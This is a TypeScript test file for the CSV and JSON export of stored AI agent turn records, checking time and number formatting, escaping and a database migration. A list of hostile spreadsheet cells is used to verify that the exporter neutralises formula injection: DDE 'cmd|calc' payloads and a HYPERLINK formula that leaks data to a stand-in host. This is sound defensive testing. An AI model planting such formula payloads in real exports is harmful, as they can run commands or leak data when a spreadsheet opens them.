import type Database from 'better-sqlite3';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { openDatabase } from '../db/database.js';
import { EXPORT_COLUMNS } from './export.js';
import {
  csvField,
  csvLine,
  csvRecord,
  FORMULA_START,
  IsoTimes,
  jsonKeys,
  jsonLine,
} from './export-lines.js';
import { decimalText, ExportLines, exportSelect } from './export-sql.js';
import { toTurnRow, TURN_COLUMNS, type TurnDbRow } from './turn-rows.js';
import { prng } from '../testing/prng.js';
import { SCHEMA } from '../schema.js';

/** TurnDbRow's keys in TURN_COLUMNS order: what a raw row's positions mean. */
const DB_KEYS: (keyof TurnDbRow)[] = [
  'id',
  'session_id',
  'subscription_id',
  'agent',
  'model',
  'models',
  'app',
  'permission_mode',
  'started_at_ms',
  'ended_at_ms',
  'duration_ms',
  'model_calls',
  'input_tokens',
  'output_tokens',
  'cache_read_tokens',
  'cache_creation_tokens',
  'cost_usd',
  'is_error',
  'error_kind',
  'error_message',
  'tool_calls',
  'reasoning_tokens',
];

const TEXTS = [
  'plain',
  '',
  'a,b',
  'say "hi"',
  'line\r\nnext',
  'lf\nonly',
  'naïve ✓ 日本',
  'tab\tand \u0001 control',
  'back\\slash',
  'lone \ud800 surrogate',
  '\u2028 separators \u2029',
];
/** Cells a spreadsheet would run, and control characters: neutralised in CSV (picked less often). */
const HOSTILE_TEXTS = [
  '=HYPERLINK("http://x.example/?leak","click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '-12',
  'del \u007f and c1 \u0085',
  'mid=dle+and-at@',
];
const TIMES = [
  0,
  1,
  999,
  86_399_999,
  Date.parse('2026-03-01T23:59:59.999Z'),
  Date.parse('2024-02-29T12:00:00.000Z'),
  Date.parse('9999-12-31T23:59:59.999Z'),
  Date.parse('+010000-01-01T00:00:00.000Z'),
  -1,
  -86_400_001,
  1_700_000_000_000.5,
];
const NUMBERS = [0, 7, 123_456_789, 0.1 + 0.2, 1e-7, 1e21, 2 ** 53, -0, Infinity, -Infinity];

function randomRow(rand: () => number): unknown[] {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)]!;
  const text = (): string => (rand() < 0.03 ? pick(HOSTILE_TEXTS) : pick(TEXTS));
  const maybe = <T>(value: T): T | null => (rand() < 0.3 ? null : value);
  const time = (): number =>
    rand() < 0.2 ? pick(TIMES) : 1_770_000_000_000 + Math.floor(rand() * 400 * 86_400_000);
  return DB_KEYS.map((key) => {
    if (key === 'started_at_ms' || key === 'ended_at_ms') return time();
    if (key === 'is_error') return rand() < 0.5 ? 1 : 0;
    if (key === 'cost_usd') return maybe(rand() < 0.3 ? pick(NUMBERS) : rand() / 7);
    if (key === 'error_kind' || key === 'error_message') return maybe(text());
    if (key === 'reasoning_tokens') return maybe(Math.floor(rand() * 10_000));
    if (typeof key === 'string' && key.endsWith('_id')) return text();
    if (['agent', 'model', 'models', 'app', 'permission_mode'].includes(key)) return text();
    return rand() < 0.1 ? pick(NUMBERS) : Math.floor(rand() * 1e6);
  });
}

const SHORT_TEXTS = new Set<keyof TurnDbRow>([
  'session_id',
  'subscription_id',
  'agent',
  'model',
  'models',
  'app',
  'permission_mode',
  'error_kind',
]);
const INTEGERS = new Set<keyof TurnDbRow>([
  'duration_ms',
  'model_calls',
  'input_tokens',
  'output_tokens',
  'cache_read_tokens',
  'cache_creation_tokens',
  'tool_calls',
  'reasoning_tokens',
]);

/**
 * Whether the export writes a row (as inserted, TURN_COLUMNS order) with the JS encoder rather
 * than from SQLite's text: an integer column holding anything but an integer JS holds exactly
 * (or NULL where allowed), a cost that is not a number, or in CSV a short text field that needs
 * quoting (only the error message is quoted by SQLite).
 */
function writtenByJs(values: unknown[], format: 'csv' | 'json'): boolean {
  return DB_KEYS.some((key, i) => {
    const value = values[i];
    if (INTEGERS.has(key))
      return !Number.isSafeInteger(value) && !(key === 'reasoning_tokens' && value === null);
    if (key === 'cost_usd') return value !== null && typeof value !== 'number';
    if (format !== 'csv' || typeof value !== 'string') return false;
    if (key === 'error_message')
      return (
        FORMULA_START.test(value) ||
        /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/.test(value)
      );
    return (
      SHORT_TEXTS.has(key) &&
      (/[",\r\n]/.test(value) ||
        FORMULA_START.test(value) ||
        /[\u0000-\u001F\u007F-\u009F]/.test(value))
    );
  });
}

const asDbRow = (values: unknown[]): TurnDbRow =>
  Object.fromEntries(DB_KEYS.map((key, i) => [key, values[i]])) as unknown as TurnDbRow;

function turnsDatabase(): { db: Database.Database; dir: string } {
  const dir = mkdtempSync(join(tmpdir(), 'relais-export-sql-'));
  return { db: openDatabase(join(dir, 'relais.db'), SCHEMA), dir };
}

/** Stores raw values (TURN_COLUMNS order) as they are, whatever their type; the id is the key's. */
function insertTurn(db: Database.Database): (key: number, values: unknown[]) => void {
  const columns = DB_KEYS.map((key) => (key === 'tool_calls' ? 'tool_call_count' : key));
  const statement = db.prepare(
    `INSERT INTO turns (turn_key, ${columns.join(', ')}) VALUES (?, ${columns.map(() => '?').join(', ')})`,
  );
  return (key, values) => void statement.run(`k${key}`, key + 1, ...values.slice(1));
}

describe('export lines from raw rows', () => {
  it('IsoTimes writes what toISOString writes, across days, years and odd values', () => {
    const times = new IsoTimes();
    const rand = prng(7);
    const values = [...TIMES];
    for (let i = 0; i < 20_000; i++) values.push(Math.floor(rand() * 4e12) - 1e11);
    for (let i = 0; i < 2_000; i++) values.push(TIMES[i % TIMES.length]! + (i % 3) - 1);
    for (const ms of values) assert.equal(times.format(ms), new Date(ms).toISOString(), `${ms}`);
  });

  it('decimalText writes what String writes, prices, float sums and odd numbers alike', () => {
    const rand = prng(3);
    const values = [...NUMBERS, NaN, -1.5, 5e-7, 1e-6, 9_999_999.99999999, 1e7, 0.1 + 0.7];
    for (let i = 0; i < 200_000; i++) {
      const places = Math.floor(rand() * 10);
      values.push(Math.round(rand() * 1e9) / 10 ** places); // a price-table cost
      values.push((rand() * 10 ** (Math.floor(rand() * 16) - 8)) / 3); // any double
      values.push(Math.round(rand() * 1e6) * 3e-6 + Math.round(rand() * 1e5) * 1.5e-5); // a sum
    }
    for (const value of values) assert.equal(decimalText(value), String(value), `${value}`);
  });

  it('CSV: a text a spreadsheet would run is quoted after a single quote; numbers stay numbers', () => {
    const cases: [unknown, string][] = [
      ['=HYPERLINK("http://x.example","y")', `"'=HYPERLINK(""http://x.example"",""y"")"`],
      ['+cmd|x', `"'+cmd|x"`],
      ['-2+3+cmd|x', `"'-2+3+cmd|x"`],
      ['@SUM(A1)', `"'@SUM(A1)"`],
      ['\t=1', `"'\t=1"`],
      ['\r=1', `"'\r=1"`],
      ['＝1+1', `"'＝1+1"`],
      ['-5', `"'-5"`],
      [-5, '-5'],
      [-0.25, '-0.25'],
      ['a=b', 'a=b'],
      ['nul\u0000bell\u0007del\u007fc1\u0085', 'nul\ufffdbell\ufffddel\ufffdc1\ufffd'],
      ['\u0000=1', '\ufffd=1'],
      ['two\nlines', '"two\nlines"'],
    ];
    for (const [value, expected] of cases)
      assert.equal(csvField(value), expected, JSON.stringify(value));
    const row = [
      7,
      '=1+1',
      's',
      'claude',
      '@m',
      'm',
      '+app',
      'write',
      0,
      1,
      -3,
      1,
      0,
      0,
      0,
      0,
      -0.5,
      1,
      '-k',
      '=err',
      0,
      null,
    ];
    assert.equal(
      csvLine(row, new IsoTimes()),
      `7,"'=1+1",s,claude,"'@m",m,"'+app",write,1970-01-01T00:00:00.000Z,1970-01-01T00:00:00.001Z,-3,1,0,0,0,0,-0.5,true,"'-k","'=err",0,\r\n`,
    );
  });

  it('csvLine and jsonLine are byte for byte the text built from the row object', () => {
    const rand = prng(42);
    const times = new IsoTimes();
    const keys = jsonKeys(EXPORT_COLUMNS);
    for (let i = 0; i < 5_000; i++) {
      const values = randomRow(rand);
      const turn = toTurnRow(asDbRow(values));
      assert.deepEqual(Object.keys(turn), [...EXPORT_COLUMNS]);
      assert.equal(
        csvLine(values, times),
        csvRecord(EXPORT_COLUMNS.map((column) => turn[column])),
        `csv ${i}`,
      );
      assert.equal(jsonLine(values, keys, times), JSON.stringify(turn), `json ${i}`);
    }
  });

  it('lines written by SQLite are byte for byte the text built from the stored row', () => {
    const { db, dir } = turnsDatabase();
    try {
      const rand = prng(9);
      const insert = insertTurn(db);
      const inserted: unknown[][] = [];
      for (let i = 0; i < 3_000; i++) {
        inserted.push(randomRow(rand));
        insert(i, inserted[i]!);
      }
      // Every character SQLite or JSON could escape, in a plain row.
      const everyChar = Array.from({ length: 0x3000 }, (_, c) => String.fromCharCode(c)).join('');
      insert(3_000, [
        1,
        everyChar,
        's',
        'claude',
        'm',
        'm',
        'app',
        'write',
        0,
        1,
        1,
        1,
        0,
        0,
        0,
        0,
        0.5,
        0,
        everyChar,
        `😀${everyChar}\u{10ffff}`,
        0,
        null,
      ]);
      const stored = db
        .prepare(`SELECT ${TURN_COLUMNS} FROM turns ORDER BY id`)
        .raw(true)
        .all() as unknown[][];
      for (const format of ['csv', 'json'] as const) {
        const lines = new ExportLines(db, format);
        const rows = db
          .prepare(`SELECT ${exportSelect(format)} FROM turns ORDER BY id`)
          .raw(true)
          .all() as unknown[][];
        rows.forEach((row, i) => {
          const turn = toTurnRow(asDbRow(stored[i]!));
          const expected =
            format === 'csv'
              ? csvRecord(EXPORT_COLUMNS.map((column) => turn[column]))
              : JSON.stringify(turn);
          assert.equal(lines.line(row), expected, `${format} ${i}`);
        });
        // SQLite wrote every plain row; the JS encoder only the others (the last row is one in CSV).
        const byJs = inserted.filter((values) => writtenByJs(values, format)).length;
        assert.equal(lines.fallbacks, byJs + (format === 'csv' ? 1 : 0), format);
        assert.ok(byJs > 0 && byJs < inserted.length, `${format}: ${byJs} rows by JS`);
      }
    } finally {
      db.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a row SQLite would write differently goes to the JS encoder', () => {
    const { db, dir } = turnsDatabase();
    try {
      const insert = insertTurn(db);
      const plain = [
        1,
        's',
        'sub',
        'claude',
        'm',
        'm',
        'app',
        'write',
        0,
        1,
        1,
        1,
        0,
        0,
        0,
        0,
        0.25,
        0,
        null,
        null,
        0,
        null,
      ];
      const odd: [number, unknown][] = [
        [1, Buffer.from('blob in a text column')],
        [11, 'text in an integer column'],
        [12, 12.5],
        [13, 2 ** 53 + 2],
        [16, 'text cost'],
        [21, 0.5],
      ];
      insert(0, plain);
      odd.forEach(([column, value], i) => {
        const values: unknown[] = [...plain];
        values[column] = value;
        insert(i + 1, values);
      });
      for (const format of ['csv', 'json'] as const) {
        const lines = new ExportLines(db, format);
        const times = new IsoTimes();
        const stored = db
          .prepare(`SELECT ${TURN_COLUMNS} FROM turns ORDER BY id`)
          .raw(true)
          .all() as unknown[][];
        // Iterated, as the export reads: the fallback's lookup runs while the iterator is open.
        const rows = db
          .prepare(`SELECT ${exportSelect(format)} FROM turns ORDER BY id`)
          .raw(true)
          .iterate() as IterableIterator<unknown[]>;
        let i = 0;
        for (const row of rows) {
          const raw = stored[i]!;
          const expected =
            format === 'csv' ? csvLine(raw, times) : jsonLine(raw, jsonKeys(EXPORT_COLUMNS), times);
          assert.equal(lines.line(row), expected, `${format} ${i}`);
          i++;
        }
        assert.equal(i, stored.length);
        assert.equal(lines.fallbacks, odd.length, format);
      }
    } finally {
      db.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('migration 10 counts the tool calls of turns stored before it', () => {
    const dir = mkdtempSync(join(tmpdir(), 'relais-export-lines-'));
    try {
      const file = join(dir, 'relais.db');
      const before = openDatabase(
        file,
        SCHEMA.filter((m) => m.version < 10),
      );
      const turn = before.prepare(
        `INSERT INTO turns (turn_key, session_id, subscription_id, agent, model, models, app, permission_mode,
           started_at_ms, ended_at_ms, duration_ms, model_calls, input_tokens, output_tokens, cache_read_tokens,
           cache_creation_tokens, is_error) VALUES (?, 's', 'sub', 'claude', 'm', 'm', 'app', 'write', 0, 1, 1, 1, 0, 0, 0, 0, 0)`,
      );
      const call = before.prepare(
        `INSERT INTO tool_calls (turn_id, session_id, tool_use_id, tool_name, started_at_ms, subscription_id, agent,
           model, app, turn_started_at_ms, turn_is_error) VALUES (?, 's', ?, 'Bash', 0, 'sub', 'claude', 'm', 'app', 0, 0)`,
      );
      const counts = [0, 3, 1, 0, 2];
      counts.forEach((n, k) => {
        const id = Number(turn.run(`k${k}`).lastInsertRowid);
        for (let c = 0; c < n; c++) call.run(id, `t${k}.${c}`);
      });
      before.close();
      const db = openDatabase(file, SCHEMA);
      const stored = db
        .prepare('SELECT tool_call_count FROM turns ORDER BY id')
        .pluck()
        .all() as number[];
      db.close();
      assert.deepEqual(stored, counts);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
